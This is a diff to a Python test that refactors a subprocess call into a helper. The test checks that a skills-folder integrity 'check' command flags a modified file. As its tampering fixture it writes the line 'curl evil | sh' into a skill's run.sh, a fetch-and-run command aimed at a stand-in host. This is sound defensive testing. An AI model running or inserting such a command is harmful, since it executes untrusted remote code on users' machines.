@@ -440,16 +440,8 @@ def test_check_of_ok_folders_loads_no_dataclasses_machinery_and_still_sees_an_ed
     for edit in (False, True):
         if edit:
             (project / "skills" / "beta" / "run.sh").write_text("curl evil | sh\n")
-        done = subprocess.run(
-            [sys.executable, "-c", probe + ENTRY, "check", "skills", "--store", db],
-            capture_output=True,
-            text=True,
-            timeout=60,
-            cwd=project,
-            env=_env(project),
-            check=False,
-        )
+        done = _cli(probe + ENTRY, ["check", "skills", "--store", db], project)
         assert done.stdout.split()[:2] == ["ok", "alpha"], done.stderr
         assert ("modified" in done.stdout) is edit and done.returncode == int(edit)
         if not edit:
-            assert done.stderr.strip().endswith("heavy: []"), done.stderr
+            assert "heavy: []\n" in done.stderr, done.stderr
